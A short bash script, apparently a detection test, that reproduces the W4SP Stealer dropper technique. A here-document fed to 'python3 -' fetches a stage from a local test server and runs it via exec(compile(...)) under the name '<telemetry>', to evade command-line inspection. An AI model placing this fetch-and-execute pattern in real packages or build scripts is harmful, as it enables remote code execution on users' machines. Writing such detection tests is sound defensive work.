#!/bin/bash
# technique: T1059.006 Command and Scripting Interpreter: Python; T1105 Ingress Tool Transfer; T1620 Reflective Code Loading
# reproduces: W4SP Stealer's PyPI droppers (2022): `exec(requests.get(URL).text)` in a package's setup code, here in a here-document fed to python3 by a build script, so the command line shows only `python3 -`
# expect: interpreter-fetch-eval ^python3(\.[0-9]+)?$
# exec-borne: no
#
# The stage is fetched into a name, decoded through another, and run by
# exec(compile(...)): nothing is written and no shell is started.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

python3 - "http://127.0.0.1:${BW_ATTACK_PORT:?}/stage.py" <<'PY'
import sys
import urllib.request

resp = urllib.request.urlopen(sys.argv[1], timeout=5)
stage = resp.read().decode()
exec(compile(stage, "<telemetry>", "exec"))
PY
